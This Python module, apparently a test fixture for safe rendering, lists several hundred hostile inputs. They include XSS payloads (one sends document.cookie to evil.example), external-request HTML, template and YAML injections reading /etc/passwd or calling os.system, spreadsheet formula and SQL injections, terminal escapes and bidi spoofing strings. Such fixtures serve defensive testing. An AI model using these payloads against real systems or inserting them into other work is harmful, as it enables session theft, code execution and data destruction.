"""Three hundred texts that try to be more than text: most call ``evil`` or name evil.example.

A page that shows one as it stands is sound; what would obey it runs a script, asks the network, moves the
cursor of a terminal or turns the direction of writing.
"""

from __future__ import annotations

CALLS = (
    "evil()",
    "window.evil=1",
    "document.title='evil'",
    "location='https://evil.example/?'+document.cookie",
)

SCRIPTS = [
    form.format(call)
    for call in CALLS
    for form in (
        "<script>{}</script>",
        "</script><script>{}</script>",
        "<ScRiPt >{}</sCrIpT>",
        "<script\n>{}</script\n>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<img src=x onerror={}>",
        '<img src="x" onerror="{}">',
        "\"><img src=x onerror={}>",
        "'><img src=x onerror={}>",
        "<svg onload={}>",
        "<svg/onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror={}>",
        "<body onload={}>",
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        "<video><source onerror={}></video>",
        "<audio src=x onerror={}>",
        "<marquee onstart={}>",
        "<a href=\"javascript:{}\">x</a>",
        "<a href=\"java\tscript:{}\">x</a>",
        "<iframe srcdoc=\"<script>parent.{}</script>\">",
        "<iframe src=\"javascript:{}\">",
        "<object data=\"javascript:{}\">",
        "<form action=\"javascript:{}\"><button>x</button></form>",
        "\" autofocus onfocus=\"{}",
        "' onmouseover='{}",
        "x onmouseover={} ",
        "`onmouseover={}`",
        "--><script>{}</script><!--",
        "]]><script>{}</script>",
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "</textarea><script>{}</script>",
        "</main></body></html><script>{}</script>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "%3Cscript%3E{}%3C/script%3E",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "\ufeff<script>{}</script>",
        "＜script＞{}＜/script＞",
        "javascript:{}",
        "data:text/html,<script>{}</script>",
        "vbscript:{}",
    )
]  # fmt: skip

REQUESTS = """
    <img src="https://evil.example/a.png">
    <img src=//evil.example/b.png>
    <link rel="stylesheet" href="https://evil.example/c.css">
    <style>@import url("https://evil.example/d.css");</style>
    <style>*{background:url(https://evil.example/e.png)}</style>
    <meta http-equiv="refresh" content="0;url=https://evil.example/f">
    <base href="https://evil.example/">
    <iframe src="https://evil.example/g"></iframe>
    <embed src="https://evil.example/h">
    <object data="https://evil.example/i"></object>
    <video poster="https://evil.example/j"></video>
    <div style="background-image:url(https://evil.example/k)">x</div>
    <svg><image href="https://evil.example/l"/></svg>
    <svg><use href="https://evil.example/m#x"/></svg>
    <input type=image src="https://evil.example/n">
    <a href="https://evil.example/o" ping="https://evil.example/p">x</a>
    <table background="https://evil.example/q"><tr><td>x</table>
    <link rel="dns-prefetch" href="//evil.example">
    <link rel="preload" as="image" href="https://evil.example/r">
    <script src="https://evil.example/s.js"></script>
    <form action="https://evil.example/t"><input name=a></form>
    ");background:url(https://evil.example/u);("
    }body{background:url(https://evil.example/v)}
    <!--[if IE]><script src="https://evil.example/w"></script><![endif]-->
""".strip().split("\n    ")

MARKDOWN = r"""
    # evil heading
    ## evil {#header}
    **bold** _evil_ `code` ~~gone~~
    [evil](https://evil.example/1)
    [evil](javascript:evil())
    ![evil](https://evil.example/2.png)
    ![evil][1]
    <https://evil.example/3>
    https://evil.example/4
    | a | b |
    > quoted evil
    - evil
    1. evil
    ---
    ***
    ```python
    ~~~html
    ```{=html}
    ```{python}
    `<b>evil</b>`{=html}
    `r evil()`
    `{python} evil()`
    ::: {.column-screen}
    :::: {.content-visible when-format="html"}
    :::
    []{.evil onclick="evil()"}
    [evil]{style="position:fixed;inset:0;background:red"}
    ^evil^ ~evil~
    [^1]
    @evil2025 [@evil; @other]
    evil\
    &nbsp;&copy;&#x3c;&lt;evil&gt;
    <!-- evil -->
    {{< include /etc/passwd >}}
    {{< env HOME >}}
    {{< meta title >}}
    {{< var evil >}}
    {{< video https://evil.example/5 >}}
    {{< embed evil.ipynb#cell >}}
    {{< pagebreak >}}
    {{% evil %}}
    {{{< evil >}}}
    {{</* evil */>}}
    {{ evil() }}
    {{ config.__class__.__init__.__globals__ }}
    {{ page.outputs }}
    {% include "/etc/passwd" %}
    {% raw %}{{ evil }}{% endraw %}
    {# evil #}
    ${evil()}
    #{evil()}
    <%= evil() %>
    <?php evil(); ?>
    $x_1$
    $$\frac{evil}{0}$$
    \(x\) \[y\]
    \begin{equation}evil\end{equation}
    \href{javascript:evil()}{x}
    $\unicode{<script>evil()</script>}$
    $\evil_{1
    \input{/etc/passwd}
    \write18{evil}
    %matplotlib evil
    !evil
    evil: {a: 1}
    --- evil: true ---
    {name} {0} {evil!r} %s %(evil)s $evil
    {"evil": true}
    [evil]
    *evil
    &evil a
    !!python/object/apply:os.system [evil]
    [bold red]evil[/bold red]
    [link=https://evil.example/6]evil[/link]
    [/]evil
    :evil: :warning:
""".strip().split("\n    ")

FORMULAS = """
    =cmd|' /C calc'!A0
    =HYPERLINK("https://evil.example/7","evil")
    =WEBSERVICE("https://evil.example/8")
    =IMPORTXML("https://evil.example/9","//a")
    +1+cmd|' /C calc'!A0
    -1+cmd|' /C calc'!A0
    @SUM(1+1)*cmd|' /C calc'!A0
    =1+1
    +7 (495) 000-00-00
    @evil
    ;=evil()
    "=evil()"
    '=evil()
    '; DROP TABLE posts; --
    " OR ""="
    Robert'); DELETE FROM accounts; --
    read_csv('/etc/passwd')
    ../../../etc/passwd
    /etc/passwd
    C:\\evil\\CON
    evil@evil.example
""".strip().split("\n    ")

CONTROLS = [
    "a\x00evil",
    "a\x1b[2Jevil",
    "\x1b[31mevil\x1b[0m",
    "\x1b]0;evil\x07",
    "\x1b]8;;https://evil.example/\x07evil\x1b]8;;\x07",
    "\x1b[1A\x1b[2Kevil",
    "\x9b31mevil",
    "\x9d0;evil\x9c",
    "evil\revil",
    "evil\x08\x08\x08\x08good",
    "evil\x7f",
    "\x07evil\x07",
    "evil\x0b\x0cevil",
    "evil\x85evil",
    "evil\u2028evil\u2029evil",
    "\x1bc",
    "\x1b(0evil",
    "\x1bP1$revil\x1b\\",
    "\x0eevil\x0f",
    "\x01\x02\x03",
    "\x1b[?1049h",
    "\x1b[6n",
    "evil\tevil",
    "evil\nevil",
    "evil\r\nSubject: evil",
    "evil\nBcc: evil@evil.example",
]

DIRECTIONS = [
    "\u202egnp.live",
    "\u202e\u2066evil\u2069\u2066",
    "\u2067evil",
    "\u2066",
    "\u202a",
    "\u202b evil",
    "\u202devil\u202c",
    "\u202c\u202c\u2069\u2069",
    "\u200fevil 30 %\u200f",
    "\u061cevil",
    "שלום evil 30 %",
    "مرحبا evil 45 %",
    "evil (שלום",
    ") evil 100 שלום",
    "12 مرحبا 34",
    "evil\u200bevil",
    "evil\u200d\u200devil",
    "evil\ufeffevil",
    "e\u0301\u0301\u0301\u0301vil",
    "evil" + "\u0300" * 60,
    "\u180eevil",
    "\U000e0001evil",
    "\ufdd0evil",
    "\uffff",
    "\ud7ffevil",
    "👩‍👩‍👧‍👦evil🏴‍☠️",
    "ﷺ" * 20,
    "𒐫" * 10,
    "еvіl (homoglyphs)",
    "W" * 400,
    "щ" * 400,
    "evil " * 100,
    "\u00ad" * 50 + "evil",
    "\u3000evil\u3000",
    "‮‮‮",
    "‏‎evil‎‏",
]

PAYLOADS = tuple(dict.fromkeys([*SCRIPTS, *REQUESTS, *MARKDOWN, *FORMULAS, *CONTROLS, *DIRECTIONS]))
